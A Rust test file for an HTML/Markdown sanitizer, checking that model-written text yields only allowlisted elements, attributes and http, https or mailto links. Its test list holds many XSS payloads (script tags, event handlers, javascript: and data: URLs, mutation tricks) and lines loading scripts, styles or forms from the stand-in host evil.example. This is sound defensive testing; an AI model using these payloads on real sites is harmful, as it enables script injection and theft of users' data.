//! Tests with text that a model may write to make a page run, fetch or submit something. None of it comes through.

use super::html;

/// Elements and attributes there may be, however hostile the text.
const ELEMENTS: [&str; 32] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "math",
    "semantics",
    "annotation",
    "mrow",
    "mi",
    "mo",
    "mn",
    "mtext",
];
const ATTRIBUTES: [&str; 13] = [
    "href",
    "rel",
    "target",
    "start",
    "dir",
    "class",
    "role",
    "aria-label",
    "display",
    "encoding",
    "mathvariant",
    "stretchy",
    "symmetric",
];

#[test]
fn nothing_a_model_writes_can_run_or_fetch() {
    for hostile in HOSTILE {
        let shown = html(hostile);
        for tag in shown.split('<').skip(1) {
            let name = tag.trim_start_matches('/').split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap();
            assert!(ELEMENTS.contains(&name), "<{name}> from {hostile:?}: {shown}");
            let inside = tag.split('>').next().unwrap().to_ascii_lowercase();
            for attribute in inside.split_whitespace().skip(1).filter_map(|part| part.split_once('=')) {
                let is_in_value = inside.contains("href=\"") && !attribute.1.starts_with('"');
                assert!(ATTRIBUTES.contains(&attribute.0) || is_in_value, "{attribute:?} from {hostile:?}: {shown}");
            }
            if let Some(href) = inside.split("href=\"").nth(1) {
                let leads = ["http://", "https://", "mailto:"].iter().any(|scheme| href.starts_with(scheme));
                assert!(leads, "{href} from {hostile:?}: {shown}");
            }
        }
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "text <script src=https://evil.example/x.js></script> text",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q><button>Go</button></form>",
    "<object data=x></object><embed src=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/agents)",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://a.example)",
    "![x](https://a.example/\"onerror=\"alert(1))",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "# x {onclick=alert(1)}",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|2|",
    "- [ ] <input type=text autofocus onfocus=alert(1)>",
    "> <script>alert(1)</script>",
    "</p></div></article><script>alert(1)</script>",
    "<p onclick=alert(1) style=\"background:url(https://evil.example)\">x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "$$\\color{red}\\style{background:url(https://evil.example)}{x}$$",
    "\\[<script>alert(1)</script>\\]",
    "- [x] <b onclick=alert(1)>",
];
